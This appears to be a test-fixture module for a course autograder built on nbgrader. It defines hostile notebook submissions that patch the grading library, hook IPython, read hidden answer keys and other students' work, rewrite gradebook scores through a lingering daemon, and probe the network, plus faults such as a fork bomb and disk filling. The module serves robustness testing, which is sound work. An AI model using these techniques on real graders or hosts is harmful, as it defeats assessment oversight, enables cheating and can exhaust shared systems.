"""Submissions that attack the grading, or fault while graded: each with its exact score and reasons.

Two kinds, graded through nbgrader with the course's own configuration, alongside the catalogues:

- **attacks** implement nothing (they start from the untouched exercise) and try to make the tests
  pass anyway: patching nbcheck or numpy in every way, IPython's hooks, objects that lie, reading
  the answers or other students' work, writing the gradebook, reaching the network. Each must score
  exactly 0, every test saying the function is not implemented (or what is wrong with what it returned).
- **faults** are right answers with one thing that goes wrong while graded: a process that exits
  or crashes, a loop that never ends, memory, output, processes and files without end, and
  notebooks renamed or with cells duplicated or deleted. Each loses exactly the tests it hits.

tests/test_hostile.py checks what a score cannot show: the gradebook, the host's processes and
files, the network and the grader's memory, after grading.
"""

from tests.submissions import Submission

# ------------------------------------------------------------------------------------------- helpers

EX1_TESTS = ["test_softmax", "test_softmax_loss_naive_value", "test_softmax_loss_naive_gradient", "test_softmax_loss",
             "test_predict", "test_train_softmax"]
EX2_TESTS = ["test_init_two_layer", "test_two_layer_scores", "test_two_layer_loss", "test_two_layer_grads",
             "test_predict_two_layer", "test_train_two_layer", "test_net221_loss", "test_predict_221", "test_train_221"]
NOT_IMPLEMENTED = "is not implemented yet"


def nothing(tests: list[str], **messages: str) -> dict[str, str]:
    """Every test fails: with 'not implemented', or the message given for it."""
    return {test: messages.get(test, NOT_IMPLEMENTED) for test in tests}


def attack(name: str, mistake: str, code: str, tests: list[str] = EX1_TESTS, cell: str = "softmax",
           anchor: str = "def softmax(", whole_cell: bool = False, **options) -> Submission:
    """An untouched exercise with ``code`` run in ``cell`` before the function it holds (or instead of the
    whole cell, for code that defines the functions itself): it must score 0."""
    fails = options.pop("fails", nothing(tests))
    change = {"replace": {cell: code.strip()}} if whole_cell else {
        "edits": {cell: [(anchor, code.strip() + "\n\n\n" + anchor)]}}
    return Submission(name=name, mistake=mistake, start="release", score=0, fails=fails, **change, **options)


# Finding the course from inside the kernel, as an attacker would: walk up from the working folder, look in
# the usual places, and ask /proc where the other processes run. Defined once, used by several attacks.
FIND = '''
import glob, os

def find(pattern):
    """Paths matching ``pattern`` wherever an attacker would look: above the working folder, the usual
    places, and where the other processes run (bounded, so that it takes well under a second)."""
    roots = {os.path.abspath(os.path.join(os.getcwd(), *[".."] * up)) for up in range(1, 6)}
    roots |= {"/work", "/tmp", "/home", "/root", "/srv", os.path.expanduser("~")}
    for pid in os.listdir("/proc"):
        try:
            roots.add(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    found = []
    for root in roots - {"/", "/usr"}:
        for depth in range(4):
            found += glob.glob(os.path.join(root, *["*"] * depth, pattern))
    return sorted(set(found))
'''

# What several attacks do with an answer key once they have one: define every function from its references.
USE_THE_KEY = '''
def use_answer_key(source):
    key = {}
    exec(source, key)
    loss = lambda W, b, X, y, reg: tuple(key["loss_answer"](W, b, X, y, reg).outputs.values())
    globals().update(softmax=lambda scores: key["np"].exp(key["log_softmax"](scores)), softmax_loss=loss,
                     softmax_loss_naive=loss, predict=lambda W, b, X: key["predict_answer"](W, b, X).outputs["labels"],
                     train_softmax=lambda X, y, **run: tuple(key["train_answer"](X, y, **run).outputs.values()))
'''

# A fake nbcheck whose every check passes.
FAKE_NBCHECK = '''
class _Pass:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None
import sys as _sys
_sys.modules[__name__].__getattr__ = lambda name: _Pass().__getattr__(name)
def check(*args, **kwargs):
    print("all checks pass")
'''

# ------------------------------------------------------------------------------------------- ex1

EX1 = [
    # ---- patching nbcheck, as if the tests ran in the student's kernel
    attack("hostile_moduletype_setattr", "nbcheck's checks replaced through types.ModuleType.__setattr__", '''
import types, nbcheck, nbcheck.grading
for name in ("check", "assert_close", "as_array", "as_scalar", "student_function"):
    types.ModuleType.__setattr__(nbcheck.grading, name, lambda *args, **kwargs: None)
'''),
    attack("hostile_module_class_reset", "nbcheck's modules given back a plain class, then patched", '''
import types, nbcheck.grading, nbcheck.grading.checks
for module in (nbcheck.grading, nbcheck.grading.checks):
    module.__class__ = types.ModuleType
    module.check = lambda *args, **kwargs: None
'''),
    attack("hostile_code_swap", "the code of nbcheck's functions swapped for code that does nothing", '''
import nbcheck.grading.checks as checks, nbcheck.grading.values as values
for function in (checks.check, checks._compare_value, values.assert_close, values.as_array, values.as_scalar):
    function.__code__ = (lambda *args, **kwargs: None).__code__
'''),
    attack("hostile_captured_numpy", "numpy patched, and the numpy that nbcheck's modules hold replaced", '''
import types, numpy as np, nbcheck.grading.checks as checks, nbcheck.grading.values as values
fake = types.SimpleNamespace(**{name: getattr(np, name) for name in dir(np) if not name.startswith("__")})
fake.all = lambda *args, **kwargs: True
fake.abs = lambda x, *args, **kwargs: 0 * np.asarray(x)
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
checks.np = values.np = fake
'''),
    attack("hostile_fake_sys_modules", "a fake nbcheck.grading put in sys.modules", '''
import sys, types
fake = types.ModuleType("nbcheck.grading")
fake.check = lambda *args, **kwargs: print("all checks pass")
fake.GradingError = AssertionError
sys.modules["nbcheck.grading"] = fake
import nbcheck
nbcheck.grading = fake
'''),
    attack("hostile_fake_package_on_path", "a fake nbcheck package written to the working folder and imported first", f'''
import importlib, os, sys
os.makedirs("nbcheck/grading", exist_ok=True)
open("nbcheck/__init__.py", "w").write("")
open("nbcheck/grading/__init__.py", "w").write({FAKE_NBCHECK!r})
sys.path.insert(0, os.getcwd())
for name in [m for m in sys.modules if m == "nbcheck" or m.startswith("nbcheck.")]:
    del sys.modules[name]
importlib.import_module("nbcheck.grading")
'''),
    attack("hostile_fake_package_submitted", "a fake nbcheck package handed in beside the notebook", '''
import importlib, os, sys
sys.path.insert(0, os.getcwd())
for name in [m for m in sys.modules if m == "nbcheck" or m.startswith("nbcheck.")]:
    del sys.modules[name]
importlib.import_module("nbcheck.grading")
''', files={"nbcheck/__init__.py": "", "nbcheck/grading/__init__.py": FAKE_NBCHECK}),
    attack("hostile_rewrite_nbcheck_on_disk", "nbcheck's files rewritten on disk, then reloaded", f'''
import importlib, os, nbcheck, nbcheck.grading.checks
for folder, _, files in os.walk(os.path.dirname(nbcheck.__file__)):
    for name in files:
        if name.endswith(".py"):
            try:
                open(os.path.join(folder, name), "w").write({FAKE_NBCHECK!r})
            except OSError as error:
                print("could not write", name, error.strerror)
importlib.reload(nbcheck.grading.checks)
'''),
    attack("hostile_rewrite_every_nbcheck", "every nbcheck found on the machine rewritten", FIND + f'''
for path in find("nbcheck/grading/checks.py") + find("site-packages/nbcheck/grading/checks.py"):
    try:
        open(path, "w").write({FAKE_NBCHECK!r})
        print("rewrote", path)
    except OSError:
        pass
'''),
    attack("hostile_caller_namespace", "the student's function overwrites the checks in the namespace of its caller", '''
import sys


def softmax(scores):
    caller = sys._getframe(1).f_globals
    caller["g"] = caller.get("g") and type(caller["g"])("g")
    for name in ("check", "assert_close", "as_array"):
        caller[name] = lambda *args, **kwargs: None
    return scores
''', whole_cell=True, fails=nothing(EX1_TESTS, test_softmax="sums to 6, not 1")),
    # ---- IPython's machinery
    attack("hostile_input_transformer", "an input transformer that turns every later cell into `pass`", '''
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
''', fails=nothing(EX1_TESTS, **{test: "is not defined" for test in EX1_TESTS[1:]})),
    attack("hostile_ast_transformer", "an AST transformer that drops every raise and assert", '''
import ast


class DropFailures(ast.NodeTransformer):
    def visit_Raise(self, node):
        return ast.Pass()

    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(DropFailures())
''', fails=nothing(EX1_TESTS, test_softmax_loss_naive_value="should return 3",
                   test_softmax_loss_naive_gradient="should return 3", test_softmax_loss="should return 3",
                   test_predict="should be a numpy array", test_train_softmax="should return 3")),
    attack("hostile_post_run_cell_clears_errors", "a post_run_cell hook that clears every error", '''
def forget(result):
    result.error_in_exec = None
    result.error_before_exec = None


get_ipython().events.register("post_run_cell", forget)
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
'''),
    attack("hostile_pre_run_cell", "a pre_run_cell hook that replaces the raw cell", '''
get_ipython().events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", "pass"))
'''),
    attack("hostile_display_hooks", "display hooks that print a passing result for every cell", '''
import sys
get_ipython().display_pub.publish = lambda *args, **kwargs: print("all checks pass")
sys.displayhook = lambda value: print("all checks pass")
get_ipython().showtraceback = lambda *args, **kwargs: print("all checks pass")
'''),
    attack("hostile_redirected_streams", "stdout and stderr redirected to nowhere", '''
import io, os, sys
sys.stdout = sys.stderr = open(os.devnull, "w")
os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
'''),
    attack("hostile_agent_replaced", "the grader's agent in the kernel replaced by one that answers with visible answers",
           '''
import numpy as np
from nbcheck.grading.cases import visible_cases


def cheat(request, buffers):
    for check in ("softmax", "naive_loss", "naive_gradient", "softmax_loss", "predict", "train"):
        for case in visible_cases("ex1_softmax", check)[1]:
            return {"ok": True, "value": 0.0}, []
    return {"ok": True, "value": None}, []


for comm in list(get_ipython().kernel.comm_manager.comms.values()):
    comm._msg_callback = None
import nbcheck.judge.agent as agent
agent.Agent.handle = lambda self, request, buffers: cheat(request, buffers)
''', fails={test: "" for test in EX1_TESTS}),
    # ---- answers that lie
    attack("hostile_lying_objects", "returned objects whose ==, __array__ and __float__ agree with anything", '''
import numpy as np


class Liar(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__

    def __float__(self):
        return 1.0986122886681098


class ArrayLiar:
    def __array__(self, dtype=None, copy=None):
        return np.zeros((2, 3))

    def __eq__(self, other):
        return True


class MatrixLiar(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)


def softmax(scores):
    return np.zeros(scores.shape).view(MatrixLiar)


def softmax_loss_naive(W, b, X, y, reg):
    return Liar(7.0), ArrayLiar(), ArrayLiar()


softmax_loss = softmax_loss_naive


def predict(W, b, X):
    return ArrayLiar()


def train_softmax(X, y, step_size=1.0, reg=1e-3, num_iters=200, seed=0):
    return ArrayLiar(), ArrayLiar(), [Liar(1.0)] * num_iters
''', whole_cell=True, cell="train_softmax", fails={
        "test_softmax": "sums to 0, not 1", "test_softmax_loss_naive_value": "yours is 7",
        "test_softmax_loss_naive_gradient": "should be a numpy array", "test_softmax_loss": "yours is 7",
        "test_predict": "should be a numpy array", "test_train_softmax": "losses[0]"}),
    attack("hostile_visible_answers_from_nbcheck", "every function looks its visible answers up in nbcheck's cases",
           '''
import numpy as np
from nbcheck.grading.cases import visible_cases


def lookup(check, **inputs):
    """The shipped answer of the visible case with these inputs; zeros elsewhere."""
    for case in visible_cases("ex1_softmax", check)[1]:
        if case.inputs.keys() == inputs.keys() and all(np.array_equal(case.inputs[k], v) for k, v in inputs.items()):
            values = tuple(case.answer.outputs.values())
            return values[0] if len(values) == 1 else values
    return None


def softmax(scores):
    found = lookup("softmax", scores=scores)
    return found if found is not None else np.full(scores.shape, 1.0 / scores.shape[1])


def softmax_loss(W, b, X, y, reg):
    found = lookup("softmax_loss", W=W, b=b, X=X, y=y, reg=reg) or lookup("naive_loss", W=W, b=b, X=X, y=y, reg=reg)
    return found if found is not None else (1.0, np.zeros_like(W), np.zeros_like(b))


softmax_loss_naive = softmax_loss


def predict(W, b, X):
    found = lookup("predict", W=W, b=b, X=X)
    return found if found is not None else np.zeros(len(X), dtype=int)


def train_softmax(X, y, step_size=1.0, reg=1e-3, num_iters=200, seed=0):
    found = lookup("train", X=X, y=y)
    return found if found is not None else (np.zeros((X.shape[1], 3)), np.zeros(3), [1.0] * num_iters)
''', whole_cell=True, cell="train_softmax", fails={"test_softmax": "random", "test_softmax_loss_naive_value": "random",
            "test_softmax_loss_naive_gradient": "random", "test_softmax_loss": "must not use a Python loop",
            "test_predict": "random", "test_train_softmax": "losses"}),
    # ---- reading what is not the student's
    attack("hostile_read_solutions", "looks for solutions/ and takes the answer key from the solution notebook",
           FIND + USE_THE_KEY + '''
import json
for path in find("solutions/ex1_softmax/ex1_softmax.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if "BEGIN HIDDEN TESTS" in "".join(cell["source"]):
            use_answer_key("".join(cell["source"]))
''', fails=nothing(EX1_TESTS), needs_sandbox=True),
    attack("hostile_read_gradebook", "reads the answer key out of gradebook.db", FIND + USE_THE_KEY + '''
import sqlite3
for path in find("gradebook.db"):
    for (source,) in sqlite3.connect(path).execute("select source from source_cell"):
        if "BEGIN HIDDEN TESTS" in source:
            use_answer_key(source)
''', needs_sandbox=True),
    attack("hostile_read_autograded_copy", "reads the graded copy of its own notebook, where the answer key is restored",
           FIND + USE_THE_KEY + '''
import json
for path in find("autograded/*/ex1_softmax/ex1_softmax.ipynb") + find("*.ipynb"):
    try:
        cells = json.load(open(path))["cells"]
    except (OSError, ValueError, KeyError):
        continue
    for cell in cells:
        if "BEGIN HIDDEN TESTS" in "".join(cell["source"]):
            use_answer_key("".join(cell["source"]))
''', needs_sandbox=True),
    attack("hostile_copy_another_student", "copies the functions from another student's submitted notebook", FIND + '''
import json
for path in find("submitted/*/ex1_softmax/ex1_softmax.ipynb"):
    if "hostile" in path:
        continue
    for cell in json.load(open(path))["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())
''', needs_sandbox=True),
    # ---- writing what is not the student's
    attack("hostile_extra_credit", "writes 800 points of extra credit, and full scores, into the gradebook", FIND + '''
import sqlite3
for path in find("gradebook.db"):
    try:
        database = sqlite3.connect(path)
        database.execute("update grade set extra_credit = 800, auto_score = (select max_score from grade_cell "
                         "where grade_cell.id = grade.cell_id)")
        database.commit()
        print("wrote", path)
    except sqlite3.Error as error:
        print(path, error)
''', needs_sandbox=True),
    attack("hostile_daemon_after_grading", "leaves a daemon that writes full scores once the grader has gone", '''
import os, sys
DAEMON = """
import glob, sqlite3, time
for _ in range(120):
    for path in glob.glob("/**/gradebook.db", recursive=True):
        try:
            database = sqlite3.connect(path)
            database.execute("update grade set auto_score = 1")
            database.commit()
        except sqlite3.Error:
            pass
    time.sleep(0.5)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", DAEMON, "nbcheck-hostile-daemon"])
    os._exit(0)
os.wait()
''', needs_sandbox=True),
    attack("hostile_shared_files", "leaves files in shared places: /tmp, /dev/shm, /var/tmp, the exchange, home", '''
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/srv/nbgrader/exchange", os.path.expanduser("~"), "/root"):
    try:
        open(os.path.join(folder, "nbcheck-hostile-marker"), "w").write("left behind")
    except OSError:
        pass
'''),
    # ---- the network
    attack("hostile_network", "fetches the answers from a server on this machine, or from the internet", USE_THE_KEY + '''
import socket
for host, port in (("127.0.0.1", 47123), ("pypi.org", 443)):
    try:
        with socket.create_connection((host, port), timeout=3) as connection:
            connection.sendall(b"GET /answer_key HTTP/1.0\\r\\n\\r\\n")
            use_answer_key(connection.makefile().read().split("\\r\\n\\r\\n", 1)[1])
    except OSError as error:
        print(host, type(error).__name__)
''', needs_sandbox=True),
    # ---- time limits
    attack("hostile_no_time_limit", "switches the time limit off (signal.getitimer, setitimer, alarm), then hangs",
           '''
import signal
signal.getitimer = lambda which: (1.0, 0.0)
signal.setitimer = lambda *args: (0.0, 0.0)
signal.alarm = lambda seconds: 0
signal.signal(signal.SIGALRM, signal.SIG_IGN)


def softmax(scores):
    while True:
        pass
''', whole_cell=True, fails=nothing(EX1_TESTS, test_softmax="did not finish within 10 s")),
    # ---- faults: right answers, and one thing that goes wrong while graded
    Submission(
        name="fault_sys_exit_in_predict", mistake="predict calls sys.exit()", score=6,
        edits={"predict": [("    return np.argmax(X @ W + b, axis=1)", "    import sys\n    sys.exit(0)")]},
        fails={"test_predict": "raised SystemExit"}),
    Submission(
        name="fault_os_exit_in_predict", mistake="predict ends its process with os._exit(3)", score=6,
        edits={"predict": [("    return np.argmax(X @ W + b, axis=1)", "    import os\n    os._exit(3)")]},
        fails={"test_predict": "stopped the Python process that runs your notebook: the Python process exited"}),
    Submission(
        name="fault_os_exit_in_cell", mistake="the cell of predict ends the process after defining it", score=6,
        edits={"predict": [("    return np.argmax(X @ W + b, axis=1)  # softmax is increasing: same argmax as the scores",
                            "    return np.argmax(X @ W + b, axis=1)\n\n\nimport os\nos._exit(0)")]},
        fails={"test_predict": "`predict` is not defined"}),
    Submission(
        name="fault_segfault_in_softmax", mistake="softmax crashes the interpreter (a segmentation fault via ctypes)",
        score=3, edits={"softmax": [("    shifted = scores - scores.max(axis=1, keepdims=True)",
                                     "    import ctypes\n    ctypes.string_at(0)\n    shifted = scores")]},
        fails={"test_softmax": "SIGSEGV", "test_softmax_loss": "SIGSEGV", "test_train_softmax": "SIGSEGV"}),
    Submission(
        name="fault_loop_ignoring_interrupts", mistake="train_softmax ignores SIGINT and never ends", score=6,
        edits={"train_softmax": [("    D, K = X.shape[1], int(y.max()) + 1",
                                  "    import signal\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                  "    while True:\n        pass")]},
        fails={"test_train_softmax": "did not stop when interrupted, so the kernel was restarted"}),
    Submission(
        name="fault_endless_loop_in_predict", mistake="predict never ends", score=6,
        edits={"predict": [("    return np.argmax(X @ W + b, axis=1)", "    while True:\n        pass")]},
        fails={"test_predict": "did not finish within 10 s"}),
    Submission(
        name="fault_huge_allocation", mistake="predict allocates a million by a million array", score=6,
        edits={"predict": [("    return np.argmax(X @ W + b, axis=1)", "    return np.ones((10**6, 10**6)).argmax(axis=1)")]},
        fails={"test_predict": "memory"}),
    Submission(
        name="fault_memory_growing", mistake="predict keeps appending arrays to a global list until memory runs out",
        score=6, edits={"predict": [("    return np.argmax(X @ W + b, axis=1)",
                                     "    while True:\n        HOARD.append(np.ones(25 * 10**6))"),
                                    ("def predict(", "HOARD = []\n\n\ndef predict(")]},
        fails={"test_predict": "memory"}),
    Submission(
        name="fault_printing_forever", mistake="predict prints in a loop that never ends", score=6,
        edits={"predict": [("    return np.argmax(X @ W + b, axis=1)",
                            "    while True:\n        print('nbcheck-hostile-flood ' * 1000)")]},
        fails={"test_predict": "did not finish within 10 s"}),
    Submission(
        name="fault_huge_output", mistake="the cell of predict prints 20 MB once", score=7,
        edits={"predict": [("def predict(", "print('x' * (20 << 20))\n\n\ndef predict(")]}),
    Submission(
        name="fault_processes_left_running", mistake="starts a sleeping subprocess and a daemon, and leaves them", score=7,
        edits={"predict": [("def predict(", "import os, subprocess, sys\n"
                            "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', 'nbcheck-hostile-child'])\n"
                            "if os.fork() == 0:\n    os.setsid()\n"
                            "    os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)', "
                            "'nbcheck-hostile-child'])\n\n\ndef predict(")]}),
    Submission(
        name="fault_bounded_fork", mistake="forks ten sleeping children", score=7,
        edits={"predict": [("def predict(", "import os, time\nfor _ in range(10):\n    if os.fork() == 0:\n"
                            "        time.sleep(600)\n        os._exit(0)\n\n\ndef predict(")]}),
    Submission(
        name="fault_fork_bomb", mistake="predict forks without end", score=6,
        edits={"predict": [("    return np.argmax(X @ W + b, axis=1)",
                            "    import os\n    while True:\n        os.fork()")]},
        fails={"test_predict": "predict"}),
    Submission(
        name="fault_large_file", mistake="the cell of predict writes a 200 MB file", score=7,
        edits={"predict": [("def predict(", "try:\n    open('big.bin', 'wb').write(b'0' * (200 << 20))\n"
                            "except OSError as error:\n    print(error)\n\n\ndef predict(")]}),
    Submission(
        name="fault_disk_filled", mistake="the cell of predict writes 1 MB files until the disk is full", score=7,
        edits={"predict": [("def predict(", "import itertools\ntry:\n    for n in itertools.count():\n"
                            "        open(f'part{n}.bin', 'wb').write(b'0' * (1 << 20))\nexcept OSError as error:\n"
                            "    print(n, error)\n\n\ndef predict(")]}),
    Submission(name="fault_duplicated_test_cell", mistake="the first test cell duplicated", score=7,
               notebook="duplicate_first_test"),
    Submission(name="fault_deleted_function_and_test", mistake="the cell of predict and its test deleted", score=6,
               notebook="delete:predict,test_predict", fails={"test_predict": "`predict` is not defined"}),
    Submission(name="fault_renamed_notebook", mistake="the notebook handed in as ex1_softmax-Copy1.ipynb", score=7,
               filename="ex1_softmax-Copy1.ipynb"),
    Submission(name="fault_metadata_stripped", mistake="every cell's nbgrader metadata removed", score=7,
               notebook="strip_metadata"),
    Submission(name="fault_answer_key_overwritten", mistake="the locked answer key cell replaced by the student's code",
               score=7, replace={"answer_key": "ANSWERS = 'mine'\nprint('my own answer key')"}),
    Submission(
        name="fair_warnings_prints_and_stderr", mistake="right answers that warn, print and write to stderr", score=7,
        edits={"softmax": [("    exp_scores = np.exp(shifted)",
                            "    import sys, warnings\n    warnings.warn('softmax called')\n"
                            "    print('softmax', scores.shape)\n    print('to stderr', file=sys.stderr)\n"
                            "    exp_scores = np.exp(shifted)")]}),
]

# ------------------------------------------------------------------------------------------- ex2

EX2 = [
    attack("hostile_ex2_code_swap", "nbcheck's checks swapped for no-ops", '''
import nbcheck.grading.checks as checks
checks.check.__code__ = (lambda *args, **kwargs: None).__code__
''', tests=EX2_TESTS, cell="init_two_layer", anchor="def init_two_layer("),
    attack("hostile_ex2_copy_another_student", "copies another student's functions", FIND + '''
import json
for path in find("submitted/*/ex2_two_layer/ex2_two_layer.ipynb"):
    if "hostile" in path:
        continue
    for cell in json.load(open(path))["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())
''', tests=EX2_TESTS, cell="init_two_layer", anchor="def init_two_layer(", needs_sandbox=True),
    attack("hostile_ex2_extra_credit", "writes extra credit into the gradebook", FIND + '''
import sqlite3
for path in find("gradebook.db"):
    try:
        database = sqlite3.connect(path)
        database.execute("update grade set extra_credit = 800")
        database.commit()
    except sqlite3.Error:
        pass
''', tests=EX2_TESTS, cell="init_two_layer", anchor="def init_two_layer(", needs_sandbox=True),
    Submission(
        name="fault_ex2_os_exit_in_train", mistake="train_two_layer ends the process", score=15,
        edits={"train_two_layer": [("    params = init_two_layer(", "    import os\n    os._exit(1)\n    params = init_two_layer(")]},
        fails={"test_train_two_layer": "stopped the Python process"}),
    Submission(
        name="fault_ex2_segfault_in_net221", mistake="net221_loss crashes the interpreter", score=12,
        edits={"net221_loss": [("    N = X.shape[0]", "    import ctypes\n    ctypes.string_at(0)\n    N = X.shape[0]")]},
        fails={"test_net221_loss": "SIGSEGV", "test_train_221": "SIGSEGV"}),
    Submission(
        name="fault_ex2_memory_in_predict_221", mistake="predict_221 runs out of memory", score=16,
        edits={"predict_221": [("    use_bias = ", "    np.ones((10**6, 10**6)).sum()\n    use_bias = ")]},
        fails={"test_predict_221": "memory"}),
    Submission(name="fault_ex2_renamed_notebook", mistake="the notebook handed in renamed", score=17,
               filename="ex2 two layer (1).ipynb"),
    Submission(name="fault_ex2_duplicated_test_cell", mistake="the first test cell duplicated", score=17,
               notebook="duplicate_first_test"),
    Submission(name="fault_ex2_deleted_tests", mistake="every test cell after the first deleted", score=17,
               notebook="delete:test_two_layer_scores,test_two_layer_loss,test_two_layer_grads,test_predict_two_layer"),
]

HOSTILE = {"ex1_softmax": EX1, "ex2_two_layer": EX2}
